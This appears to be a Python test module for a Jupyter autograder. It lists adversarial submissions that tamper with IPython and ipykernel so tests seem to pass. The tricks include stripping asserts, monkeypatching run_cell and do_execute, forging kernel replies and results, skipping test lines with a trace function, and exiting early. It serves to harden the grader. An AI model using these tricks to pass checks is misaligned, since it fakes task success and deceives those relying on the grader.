"""Tampering with the machinery that runs cells: IPython's, ipykernel's, and their messages."""

from attacks import Submission, attack

# A function of each name that solves nothing, for attacks that need the tests to come as far as their asserts.
NOTHING = """
def total(numbers): return 0
def fibonacci(n): return 0
def twice(function, value): return value
class Tally:
    sum = 0
    def add(self, n): pass
def report(path): open(path, "w").write("0")
answer = 0
"""

# `send(kind, content)` publishes a message with the running cell as its parent.
SEND = """
kernel = get_ipython().kernel
def send(kind, content, where=None):
    where = where or kernel.iopub_socket
    kernel.session.send(where, kind, content, parent=kernel.get_parent(), ident=kernel._topic(kind))
def before(hook):
    get_ipython().events.register("pre_run_cell", lambda info: hook())
def after(hook):
    get_ipython().events.register("post_run_cell", lambda result: hook())
"""


@attack()
def input_transformer(s: Submission) -> None:
    """Makes IPython read every later cell as `pass`"""
    s.code("get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])")


@attack()
def ast_transformer(s: Submission) -> None:
    """Removes every `assert` from later cells"""
    s.code(
        NOTHING
        + """
import ast
class Remove(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Remove())
"""
    )


@attack()
def run_cell(s: Submission) -> None:
    """Replaces `run_cell` with one that runs nothing and reports success"""
    s.code(
        """
from IPython.core.interactiveshell import ExecutionResult, InteractiveShell
def fine(self, *args, **kwargs):
    self.execution_count += 1
    return ExecutionResult(None)
async def fine_too(self, *args, **kwargs):
    return fine(self)
type(get_ipython()).run_cell = InteractiveShell.run_cell = fine
type(get_ipython()).run_cell_async = InteractiveShell.run_cell_async = fine_too
"""
    )


@attack()
def do_execute(s: Submission) -> None:
    """Replaces the kernel's `do_execute` with one that always reports success"""
    s.code(
        """
async def fine(self, *args, **kwargs):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
type(get_ipython().kernel).do_execute = fine
"""
    )


@attack()
def showtraceback(s: Submission) -> None:
    """Keeps IPython from displaying any error"""
    s.code("type(get_ipython()).showtraceback = type(get_ipython())._showtraceback = lambda *a, **k: None")


@attack()
def custom_exceptions(s: Submission) -> None:
    """Registers a handler that swallows every exception"""
    s.code("get_ipython().set_custom_exc((BaseException,), lambda *arguments, **named: None)")


@attack()
def displayhook(s: Submission) -> None:
    """Displays 3.0 as the value of every cell's last expression"""
    s.code(
        NOTHING
        + """
hook = type(get_ipython().displayhook)
hook.compute_format_data = lambda self, result: ({"text/plain": "3.0"}, {})
"""
    )


@attack()
def published_result(s: Submission) -> None:
    """Publishes a result of 3.0 after each cell"""
    content = '{"data": {"text/plain": "3.0"}, "metadata": {}, "execution_count": 1}'
    s.code(NOTHING + SEND + f"after(lambda: send('execute_result', {content}))")


@attack()
def cleared_output(s: Submission) -> None:
    """Clears each cell's outputs, including its error"""
    s.code(SEND + "after(lambda: send('clear_output', {'wait': False}))")


@attack()
def output_widget(s: Submission) -> None:
    """Makes the grader's client put the tests' errors into a widget instead of the cell"""
    s.code(
        SEND
        + """
state = {"_model_module": "@jupyter-widgets/output", "_model_name": "OutputModel", "outputs": [], "msg_id": ""}
send("comm_open", {"comm_id": "w", "target_name": "jupyter.widget", "data": {"state": state}})
def redirect():
    msg = kernel.get_parent()["header"]["msg_id"]
    send("comm_msg", {"comm_id": "w", "data": {"method": "update", "state": {"msg_id": msg}}})
before(redirect)
"""
    )


@attack()
def early_reply(s: Submission) -> None:
    """Answers each request itself before the cell runs, with the real parent header, and then hangs"""
    s.code(
        SEND
        + """
import time
def reply():
    content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    identity = kernel.get_parent and kernel._shell_parent_ident.get()
    kernel.session.send(kernel.shell_stream, "execute_reply", content, parent=kernel.get_parent(), ident=identity)
    send("status", {"execution_state": "idle"})
    kernel.shell_stream.flush()
    time.sleep(2)
    raise KeyboardInterrupt
before(reply)
"""
    )


@attack()
def early_reply_then_exit(s: Submission) -> None:
    """Answers a test's request with `ok` and ends the kernel immediately"""
    s.code(
        SEND
        + """
import os, time
def reply():
    content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    identity = kernel._shell_parent_ident.get()
    kernel.session.send(kernel.shell_stream, "execute_reply", content, parent=kernel.get_parent(), ident=identity)
    send("status", {"execution_state": "idle"})
    kernel.shell_stream.flush()
    time.sleep(1)
    os._exit(0)
before(reply)
"""
    )


@attack()
def trace_function(s: Submission) -> None:
    """Skips every line of a test with a trace function"""
    s.code(
        NOTHING
        + """
import sys
def jump(frame, event, argument):
    if event == "line" and frame.f_code.co_name == "<module>":
        lines = [line for _, _, line in frame.f_code.co_lines() if line]
        if frame.f_lineno < max(lines):
            frame.f_lineno = max(lines)
    return jump
def start():
    sys.settrace(jump)
get_ipython().events.register("pre_run_cell", lambda info: start())
"""
    )


@attack()
def thread_that_rebinds(s: Submission) -> None:
    """Rebinds the tests' names in a thread, a thousand times per second"""
    s.code(
        NOTHING
        + """
import threading, time
names = globals()
class Same:
    def __eq__(self, other): return True
def act():
    while True:
        names.update(check=lambda *a: None, wanted=[0, 0, 0], closeness=lambda *a: 1.0)
        time.sleep(0.001)
threading.Thread(target=act, daemon=True).start()
"""
    )


@attack()
def exit_in_a_test(s: Submission) -> None:
    """Ends the kernel with exit code 0 when a test calls the student's code"""
    s.code("import os\ndef total(numbers):\n    os._exit(0)")


@attack()
def compile_without_asserts(s: Submission) -> None:
    """Makes IPython's compiler optimize `assert` statements away"""
    s.code(
        NOTHING
        + """
compiler = get_ipython().compile
def optimised(node, name, mode, *rest, **named):
    return compile(node, name, mode, compiler.flags, dont_inherit=True, optimize=2)
type(compiler).__call__ = lambda self, node, name, mode, *r, **k: optimised(node, name, mode)
"""
    )


@attack()
def system_exit(s: Submission) -> None:
    """Raises `SystemExit`, which is not an `Exception`, when a test calls the student's code"""
    s.code("def total(numbers):\n    raise SystemExit(0)")
